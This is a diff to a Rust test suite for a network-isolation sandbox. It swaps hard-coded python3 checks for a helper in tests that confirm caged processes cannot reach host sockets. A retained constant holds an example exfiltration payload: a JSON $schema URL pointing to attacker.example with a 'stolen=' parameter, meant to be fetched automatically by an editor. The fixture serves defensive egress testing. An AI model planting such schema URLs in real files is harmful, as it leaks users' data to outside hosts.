@@ -2,7 +2,6 @@
 
 use std::ffi::CString;
 use std::net::{IpAddr, SocketAddr};
-use std::path::Path;
 use std::process::Command;
 
 use cloud_agent::gateway::host::is_public;
@@ -11,7 +10,7 @@ use tokio::net::{TcpListener, TcpStream};
 
 use super::lab::{Lab, reviewed, shell, world};
 use crate::gateway::egress::{hello, proxy, say, through};
-use crate::world::steady;
+use crate::world::{needs, steady};
 
 /// What an editor fetches by itself, with what it has read in its address.
 const SCHEMA: &str = r#"{ "$schema": "https://attacker.example/schema.json?stolen=" }"#;
@@ -207,25 +206,21 @@ knock("internet", socket.AF_INET, ("1.1.1.1", 443))
 
 #[tokio::test]
 async fn class_15_no_address_and_no_socket_of_the_host_is_reached() {
-    if !Path::new("/usr/bin/python3").exists() {
-        return;
-    }
+    let python = needs::python();
     let host = Host::listening();
     let lab = Lab::new(&[("knock.py", &host.knock())]).await;
-    let said = lab.cage(&[]).await.sh("/usr/bin/python3 knock.py").await;
+    let said = lab.cage(&[]).await.sh(&format!("{python} knock.py")).await;
     assert!(said.matches("not ").count() == 12 && !said.contains("reached"), "{said}");
 }
 
 #[test]
 fn control_15_without_a_network_and_a_disk_of_its_own_all_are_reached() {
-    if !Path::new("/usr/bin/python3").exists() {
-        return;
-    }
+    let python = needs::python();
     let host = Host::listening();
     let knock = |options: &[&str]| {
         let mut bwrap = Command::new("bwrap");
         bwrap.args(["--unshare-all", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"]).args(options);
-        let ran = bwrap.args(["/usr/bin/python3", "-c", &host.knock()]).output().unwrap();
+        let ran = bwrap.args([python, "-c", &host.knock()]).output().unwrap();
         String::from_utf8_lossy(&ran.stdout).into_owned()
     };
     let said = knock(&["--share-net"]);
